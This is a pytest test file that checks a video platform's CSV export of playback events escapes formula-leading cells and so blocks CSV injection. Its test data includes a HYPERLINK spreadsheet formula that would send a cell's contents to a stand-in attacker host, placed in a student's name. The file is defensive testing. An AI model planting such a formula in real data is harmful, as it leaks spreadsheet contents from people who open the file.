"""The playback-events CSV export writes no cell a spreadsheet would run as a formula (CSV
injection): a student's name, the only text a caller chooses that reaches a cell as it is, tried
with every leading character spreadsheets take for a formula."""

from __future__ import annotations

import csv
import io

import pytest

from academy_video.adapters.http.csv_cells import FORMULA_STARTS

from .conftest import STUDENTS, Api
from .test_analytics import CONTRACT_CSV_HEADER
from .test_playback import play, start

ALICE = 101


@pytest.mark.parametrize("lead", FORMULA_STARTS)
def test_a_name_that_starts_a_formula_is_exported_as_text(api: Api, lead: str) -> None:
    name = f'{lead}HYPERLINK("http://evil.invalid/?"&A1,"Open")'
    renamed = api.call(
        "PUT",
        f"/api/v1/directory/students/{ALICE + 500}",
        json={"user_id": STUDENTS[ALICE], "name": name},
    )
    assert renamed.status_code == 200, renamed.text
    video = api.ready_video()
    token = start(api, video).json()["token"]
    batch = [{"type": "FOCUS_LOST", "payload": {"note": "=1+1"}}]
    assert play(api, "events", token, events=batch).json() == {"stored": 1}

    response = api.call("GET", "/api/v1/video-playback-events/export/", params={"video": video})
    assert response.status_code == 200, response.text
    header, row = list(csv.reader(io.StringIO(response.text, newline="")))
    assert header == CONTRACT_CSV_HEADER
    cells = dict(zip(header, row, strict=True))
    assert cells["student_name"] == "'" + name  # the name as it was, shown and never run
    # Numbers stay numbers; the payload's JSON starts with "{" and needs nothing.
    assert cells["enrollment_id"] == str(ALICE) and cells["score"] == "2"
    assert cells["payload"] == '{"note":"=1+1"}'
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
